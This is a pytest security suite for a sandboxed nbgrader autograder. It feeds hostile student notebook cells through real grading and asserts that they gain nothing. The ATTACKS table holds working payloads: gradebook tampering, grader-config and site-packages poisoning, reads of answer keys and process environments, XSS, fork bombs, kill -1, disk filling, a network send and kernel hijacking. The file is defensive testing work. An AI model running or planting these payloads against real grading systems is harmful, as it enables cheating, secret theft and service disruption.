"""Attack suite: hostile student notebooks graded by the real pipeline (real nbgrader, real bwrap).

One batch (``mlsyslab.grading.course.autograde``, 2 sandboxes at once) grades lab 2 for two honest
students (the instructor solution), a blank release, a student who copy-pasted a test cell, and
one attacker per row of :data:`ATTACKS` (each a blank release with the attack cell after the
setup cell, so "gains nothing" means: scores no more than the blank notebook, 0). Then, per
student: attackers score <= blank, honest students keep every autograded point; and for the
whole batch: no file outside the student's own copy changed (the course folder is hashed; the
package, site-packages, ``$HOME/.jupyter`` and ``$HOME/.ipython`` are searched for the run's
marker, as other processes may edit them meanwhile), no process of the batch survives (no
process carries the run's marker in its command line or environment), the listener the
network attack aims at got nothing, and the feedback shows neither hidden tests, other
students' work, the grader's environment nor active HTML. docs/instructors.md ("Threat model")
has the table with these results.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import pathlib
import secrets
import shutil
import socket
import string
import subprocess
import sys
import threading

import nbformat
import pytest

ROOT = pathlib.Path(__file__).resolve().parent.parent
LAB = "lab2_kv_cache"
TOKEN = "atk" + secrets.token_hex(4)  # marks every file and process an attack makes
WALL_S = 60  # the test course's whole-notebook deadline (a slow-hook attacker is cut there)

# Each attack: (row of the threat-model table, cell source). $COURSE, $PKG, $HOME, $SITE, $TOKEN, $PORT
# and $ROOT are filled in; every file the attack writes outside its own copy carries $TOKEN.
ATTACKS = {
    "detached-gradebook": ("detached process edits ../../gradebook.db after 8 s", r'''
import subprocess, sys
code = """import time, sqlite3
time.sleep(8)
for p in ('../../gradebook.db', '$COURSE/gradebook.db'):
    try:
        db = sqlite3.connect(p); db.execute('update grade set manual_score = 100'); db.commit()
        open(p, 'ab').write(b'$TOKEN')
    except Exception:
        pass
"""
subprocess.Popen([sys.executable, '-c', code, '$TOKEN'], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''),
    "edit-grader-code": ("append to mlsyslab/grading/preprocessors.py, write $HOME/.jupyter/nbgrader_config.py", r'''
import os, mlsyslab.grading as g
payload = "\n# $TOKEN\nc.Autograde.autograde_preprocessors = []\n"
for path in (os.path.join(os.path.dirname(g.__file__), 'preprocessors.py'), '$PKG/grading/preprocessors.py',
             '$HOME/.jupyter/nbgrader_config.py', os.path.expanduser('~/.jupyter/nbgrader_config.py'),
             '$COURSE/nbgrader_config.py', '$ROOT/autograder/nbgrader_config.py'):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'a') as f:
            f.write(payload)
    except OSError:
        pass
'''),
    "site-packages-pth": ("write site-packages/zzz.pth (kills the next kernel)", r'''
import site, os
for folder in site.getsitepackages() + ['$SITE']:
    try:
        with open(os.path.join(folder, 'zzz_$TOKEN.pth'), 'w') as f:
            f.write('import os; os._exit(3)\n')
    except OSError:
        pass
'''),
    "exec-source-solutions": ("read course/source/.../lab.ipynb and exec the solutions", r'''
import json, glob
for path in glob.glob('$COURSE/source/*/*.ipynb') + glob.glob('../../../source/*/*.ipynb') + glob.glob('$ROOT/autograder/source/*/*.ipynb'):
    try:
        for cell in json.load(open(path))['cells']:
            if cell['cell_type'] == 'code':
                exec(''.join(cell['source']), globals())
    except Exception:
        pass
get_ipython().events.register('post_run_cell', lambda *a: None)
'''),
    "print-secrets": ("print hidden tests, solutions, other submissions, the grader's environment", r'''
import glob, os
ip = get_ipython()
def leak(*args):
    print('LEAK', ip.user_ns.get('In', [''])[-2:])   # the cell just run: a hidden test, once graded
ip.events.register('pre_run_cell', leak)
for path in glob.glob('$COURSE/**/*.ipynb', recursive=True) + glob.glob('$COURSE/keys/*.py') + glob.glob('/proc/*/environ'):
    try:
        print(path, open(path, 'rb').read()[:100000])
    except OSError:
        pass
print(dict(os.environ))
'''),
    "read-keys": ("read the answer keys (mlsyslab.grading.keys, the course's keys/) from a post_run_cell hook", r'''
import importlib.util
from mlsyslab.grading import keys
found = {}
for root in (None, '$COURSE', '$ROOT/autograder', '../../..'):
    try:
        key = keys.get('lab2_kv_cache', root=root)
        if key is not None:
            found.update(key.expected)
    except Exception:
        pass
for path in ('$COURSE/keys/lab2_kv_cache.py', '$ROOT/autograder/keys/lab2_kv_cache.py'):
    try:
        spec = importlib.util.spec_from_file_location('k', path)
        m = importlib.util.module_from_spec(spec); spec.loader.exec_module(m)
        found['loaded'] = True
    except Exception:
        pass
get_ipython().events.register('post_run_cell', lambda *a: globals().update(found))
'''),
    "html-script": ("<script> / <img onerror> in an HTML output and in a markdown answer", r'''
from IPython.display import HTML, display
display(HTML('<script>window.$TOKEN = 1</script><img src=x onerror="window.$TOKEN=2"><a href="javascript:alert(1)">x</a>'))
'''),
    "kill-parent": ("os.kill(os.getppid(), 9)", r'''
import os
os.kill(os.getppid(), 9)
os.kill(1, 9)
'''),
    "slow-hook": ("a pre_run_cell hook sleeping 59 s", r'''
import time
get_ipython().events.register('pre_run_cell', lambda *a: time.sleep(59))
'''),
    "fork-bomb": ("fork until refused (sleeping children)", r'''
import os, time
for i in range(4000):
    try:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
    except OSError:
        break
'''),
    "memory-hog": ("allocate 16 GiB", r'''
try:
    hog = bytearray(16 * 2**30)
except MemoryError:
    pass
'''),
    "disk-fill": ("write a 1 GiB file in its folder and in /tmp", r'''
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for path in ('fill-$TOKEN', '/tmp/fill-$TOKEN'):
    try:
        with open(path, 'wb') as f:
            for _ in range(1024):
                f.write(b'x' * 2**20)
    except OSError:
        pass
'''),
    "network": ("send to a listener on the grading host; reach PyPI", r'''
import socket
for host, port in (('127.0.0.1', $PORT), ('pypi.org', 443)):
    try:
        socket.create_connection((host, port), timeout=3).sendall(b'$TOKEN')
    except OSError:
        pass
'''),
    "other-students": ("overwrite the other students' submitted and autograded notebooks", r'''
import glob
for path in glob.glob('$COURSE/submitted/*/*/*.ipynb') + glob.glob('$COURSE/autograded/*/*/*.ipynb') + glob.glob('../../*/*/*.ipynb'):
    try:
        open(path, 'w').write('{"$TOKEN": 1}')
    except OSError:
        pass
'''),
    "forged-scores": ("forge score outputs (the grader's MIME type, 'Trusted score' text) outside test cells", r'''
from IPython.display import display
items = [{"id": "max_batch", "label": "x", "points": 99, "max_points": 2, "verdict": "correct", "feedback": "ok"}]
display({"application/vnd.mlsyslab.scores+json": {"grade_id": "ex1_oom_batch", "score": 99, "max_points": 4, "items": items},
         "text/plain": "Trusted score for ex1_oom_batch: 4 / 4"}, raw=True)
print("Trusted score for ex1_kv_per_token: 2 / 2")
'''),
    "ipython-startup": ("write an IPython startup file in the grader's HOME", r'''
import os
for home in ('$HOME', os.path.expanduser('~')):
    try:
        os.makedirs(home + '/.ipython/profile_default/startup', exist_ok=True)
        open(home + '/.ipython/profile_default/startup/00-$TOKEN.py', 'w').write('import os; os._exit(3)')
    except OSError:
        pass
'''),
    "kill-all": ("os.kill(-1, 9): every process it can signal", r'''
import os
os.kill(-1, 9)
'''),
    "hijack-kernels": ("connect to the other students' kernels (connection files) and change their answers", r'''
import glob
from jupyter_client import BlockingKernelClient
import ipykernel
own = ipykernel.get_connection_file()
for path in glob.glob('/tmp/*/kernel.json') + glob.glob('/tmp/*.json') + glob.glob('/root/.local/share/jupyter/runtime/*.json'):
    if path == own:
        continue
    try:
        kc = BlockingKernelClient(connection_file=path); kc.load_connection_file(); kc.start_channels()
        kc.execute('kv_bytes_per_token = max_batch = 0', store_history=False); kc.stop_channels()
    except Exception:
        pass
'''),
}

HONEST = ("honest-a", "honest-b")


def _student(name: str) -> str:
    return f"{name}-{TOKEN}"


def _attack_source(template: str, subs: dict) -> str:
    return string.Template(template).safe_substitute(subs)


def _digest(folder: pathlib.Path, skip=()) -> dict:
    out = {}
    for path in sorted(folder.rglob("*")):
        rel = path.relative_to(folder)
        if path.is_file() and not any(str(rel).startswith(s) for s in skip):
            out[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _files_with_token(folders, top_level=()) -> list:
    """Files under ``folders`` (and directly in ``top_level``) whose name or content has the marker."""
    candidates = [p for f in map(pathlib.Path, folders) if f.exists() for p in f.rglob("*")]
    candidates += [p for f in map(pathlib.Path, top_level) if f.exists() for p in f.iterdir()]
    hits = []
    for path in candidates:
        try:
            if TOKEN in path.name or (path.is_file() and path.stat().st_size < 2**22 and TOKEN.encode() in path.read_bytes()):
                hits.append(str(path))
        except OSError:
            continue
    return hits


def _processes_with_token() -> list:
    hits = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        for part in ("cmdline", "environ"):
            try:
                with open(f"/proc/{entry.name}/{part}", "rb") as f:
                    if TOKEN.encode() in f.read():
                        hits.append((entry.name, part))
            except OSError:
                continue
    return hits


def _listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(1.0)
    received, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100))
                conn.close()
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return server, received, stop


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    from mlsyslab.grading import course

    tmp = tmp_path_factory.mktemp("attacks")
    home = tmp / "autograder"
    (home / "source").mkdir(parents=True)
    shutil.copy(ROOT / "autograder" / "nbgrader_config.py", home)
    with open(home / "nbgrader_config.py", "a", encoding="utf-8") as f:
        f.write(f"\nc.SandboxedKernelManager.wall_seconds = {WALL_S}\n")
    shutil.copytree(ROOT / "autograder" / "source" / LAB, home / "source" / LAB)
    shutil.copytree(ROOT / "autograder" / "keys", home / "keys")
    (home / "keys" / "course_secret").write_text(secrets.token_hex(32))  # this course's own (hidden calls)
    course.release(course=home, labs_dir=None)
    source = nbformat.read(home / "source" / LAB / f"{LAB}.ipynb", 4)
    release = nbformat.read(home / "release" / LAB / f"{LAB}.ipynb", 4)

    import mlsyslab
    import site

    server, received, stop = _listener()
    subs_map = {"COURSE": str(home), "PKG": str(pathlib.Path(mlsyslab.__file__).parent), "HOME": os.path.expanduser("~"),
                "SITE": site.getsitepackages()[0], "TOKEN": TOKEN, "PORT": str(server.getsockname()[1]),
                "ROOT": str(ROOT)}
    notebooks = {_student(h): source for h in HONEST}
    notebooks[_student("blank")] = release
    dup = copy.deepcopy(source)
    first_test = next(i for i, c in enumerate(dup.cells) if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code")
    pasted = copy.deepcopy(dup.cells[first_test])
    pasted["id"] = "pasted-copy"  # what Jupyter gives a pasted cell: a new cell id, the same nbgrader metadata
    dup.cells.insert(first_test + 1, pasted)
    notebooks[_student("duplicate-test-cell")] = dup
    for name, (_, template) in ATTACKS.items():
        nb = copy.deepcopy(release)
        nb.cells.insert(2, nbformat.v4.new_code_cell(_attack_source(template, subs_map)))
        if name == "html-script":
            nb.cells.insert(3, nbformat.v4.new_markdown_cell(f"<script>window.{TOKEN}=3</script><img src=x onerror=alert(1)>"))
        notebooks[_student(name)] = nb
    schema = copy.deepcopy(release)
    next(c for c in schema.cells if "nbgrader" in c.metadata).metadata.nbgrader["schema_version"] = 99
    notebooks[_student("schema-version-99")] = schema
    subs = tmp / "submissions"
    for student, nb in notebooks.items():
        (subs / student).mkdir(parents=True)
        nbformat.write(nb, subs / student / f"{LAB}.ipynb")
    (subs / _student("malformed-json")).mkdir()
    (subs / _student("malformed-json") / f"{LAB}.ipynb").write_text('{"cells": [ {"cell_type": ', encoding="utf-8")

    secret = f"SECRET-{TOKEN}"
    os.environ["MLSYSLAB_TEST_GRADER_SECRET"] = secret  # in the grader's environment only
    fixed = ("source", "release", "keys", "nbgrader_config.py")
    before = {k: _digest(home / k) if (home / k).is_dir() else hashlib.sha256((home / k).read_bytes()).hexdigest()
              for k in fixed}
    try:
        csv_path = course.autograde(subs, tmp / "out", course=home, jobs=2)
    finally:
        os.environ.pop("MLSYSLAB_TEST_GRADER_SECRET", None)
        stop.set()
        server.close()
    after = {k: _digest(home / k) if (home / k).is_dir() else hashlib.sha256((home / k).read_bytes()).hexdigest()
             for k in fixed}
    honest_files = {h: hashlib.sha256((subs / _student(h) / f"{LAB}.ipynb").read_bytes()).hexdigest() for h in HONEST}
    return {"home": home, "subs": subs, "out": tmp / "out", "csv": csv_path, "before": before, "after": after,
            "received": received, "secret": secret, "source": source, "release": release, "honest_files": honest_files,
            "site": subs_map["SITE"], "pkg": subs_map["PKG"]}


def _score(home, student) -> tuple:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{home / 'gradebook.db'}", course_id="mlsyslab") as gb:
        nb = gb.find_submission_notebook(LAB, LAB, student)
        auto = [g for g in nb.grades if g.cell_type == "code"]
        return sum(g.score for g in auto), sum(g.max_score for g in auto), nb.score


pytestmark = [pytest.mark.nbgrader, pytest.mark.timeout(900)]


def test_honest_students_keep_full_marks(batch):
    for honest in HONEST + ("duplicate-test-cell",):
        score, max_score, _ = _score(batch["home"], _student(honest))
        assert max_score > 0 and score == pytest.approx(max_score), (honest, score, max_score)


@pytest.mark.parametrize("attack", sorted(ATTACKS) + ["schema-version-99", "malformed-json"])
def test_attacker_scores_no_more_than_blank(batch, attack):
    blank = _score(batch["home"], _student("blank"))
    score = _score(batch["home"], _student(attack))
    assert blank[0] == 0
    assert score[0] <= blank[0] and score[2] <= blank[2], (attack, score, blank)


def test_every_submission_is_in_the_gradebook(batch):
    from nbgrader.api import Gradebook

    expected = {_student(s) for s in ATTACKS} | {_student(s) for s in (*HONEST, "blank", "duplicate-test-cell",
                                                                         "schema-version-99", "malformed-json")}
    with Gradebook(f"sqlite:///{batch['home'] / 'gradebook.db'}", course_id="mlsyslab") as gb:
        graded = {s.student.id for s in gb.find_assignment(LAB).submissions}
    assert expected <= graded


def test_no_file_outside_the_students_copy_changed(batch):
    assert batch["after"] == batch["before"]
    for honest, digest in batch["honest_files"].items():
        assert hashlib.sha256((batch["subs"] / _student(honest) / f"{LAB}.ipynb").read_bytes()).hexdigest() == digest
    home = pathlib.Path(os.path.expanduser("~"))
    sandboxes = list(pathlib.Path("/tmp").glob("mlsg-*"))  # the kernels' folders, removed after each notebook
    hits = _files_with_token([batch["pkg"], home / ".jupyter", home / ".ipython", ROOT / "autograder", *sandboxes],
                             top_level=[batch["site"], "/tmp", home])
    assert hits == []


def test_no_process_survives(batch):
    assert _processes_with_token() == []


def test_no_network(batch):
    assert batch["received"] == []


def test_feedback_shows_no_secrets_and_no_active_html(batch):
    import re

    from mlsyslab.grading import keys

    # the hidden calls the grader ran for each of them (drawn from the course secret): their code and labels
    hidden = {name: [text for call in keys.get(LAB, _student(name), root=batch["home"]).hidden
                     for text in (keys.hidden_cell_source(call).splitlines()[-1], call.item.label)]
              for name in ("print-secrets", "html-script", "exec-source-solutions", "read-keys")}
    released = {line.strip() for cell in batch["release"].cells for line in cell.source.splitlines()}
    solutions = [line.strip() for cell in batch["source"].cells
                 for block in re.findall(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", cell.source, re.S)
                 for line in block.splitlines() if len(line.strip()) >= 20 and line.strip() not in released]
    assert all(hidden.values()) and solutions
    for name in ("print-secrets", "html-script", "exec-source-solutions", "read-keys"):
        page = (batch["out"] / "feedback" / _student(name) / f"{LAB}.html").read_text(encoding="utf-8")
        graded = nbformat.read(batch["home"] / "autograded" / _student(name) / LAB / f"{LAB}.ipynb", 4)
        outputs = json.dumps([c.get("outputs", []) for c in graded.cells])  # sources keep hidden tests for formgrader
        markdown = "\n".join(c.source for c in graded.cells if c.cell_type == "markdown")
        for text in (page, outputs, markdown):
            assert batch["secret"] not in text, name
            assert [h for h in hidden[name] if h in text] == [], name
            assert [s for s in solutions if s in text] == [], name
            # active elements, not the escaped source of the attack cell (shown as text, harmless)
            assert re.search(r"<(img|a|svg|iframe)\b[^>]*(onerror|onload|javascript:)", text, re.I) is None, name
            assert f"<script>window.{TOKEN}" not in text, name


def test_deadline_and_unreadable_notebooks_are_explained_in_feedback(batch):
    slow = (batch["out"] / "feedback" / _student("slow-hook") / f"{LAB}.html").read_text(encoding="utf-8")
    assert f"time limit of {WALL_S:g} s" in slow
    rows = list(csv.DictReader(open(batch["csv"], encoding="utf-8")))
    notes = {r["student"]: r["feedback"] for r in rows if r["item"] == "(submission)"}
    assert "not a readable notebook" in notes[_student("malformed-json")]


def test_plain_nbgrader_autograde_is_sandboxed(batch, tmp_path):
    """`nbgrader autograde` typed in the course folder runs the kernel in the sandbox too, and files
    submitted beside the notebook cannot hijack the kernel's start (the notebook is still graded)."""
    home = batch["home"]
    student = _student("plain-nbgrader")
    escape = tmp_path / f"escape-{TOKEN}"
    nb = copy.deepcopy(batch["release"])
    nb.cells.insert(2, nbformat.v4.new_code_cell(
        f"import os\nfor p in ({str(escape)!r}, {str(home / 'escape')!r}):\n"
        f"    try:\n        open(p, 'w').write(str(os.listdir({str(home)!r})))\n    except OSError:\n        pass\n"))
    dest = home / "submitted" / student / LAB
    dest.mkdir(parents=True)
    nbformat.write(nb, dest / f"{LAB}.ipynb")
    # files beside the notebook (what `nbgrader collect` brings) that IPython / python -m would run at kernel start
    (dest / "ipython_kernel_config.py").write_text("import os\nos._exit(3)\n")
    (dest / "ipykernel_launcher.py").write_text("import os\nos._exit(3)\n")
    env = dict(os.environ, PATH=str(pathlib.Path(sys.executable).parent) + os.pathsep + os.environ["PATH"])
    proc = subprocess.run([str(pathlib.Path(sys.executable).parent / "nbgrader"), "autograde", LAB, "--student", student],
                          cwd=home, env=env, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert not escape.exists() and not (home / "escape").exists()
    assert _score(home, student)[0] == 0
    assert _processes_with_token() == []
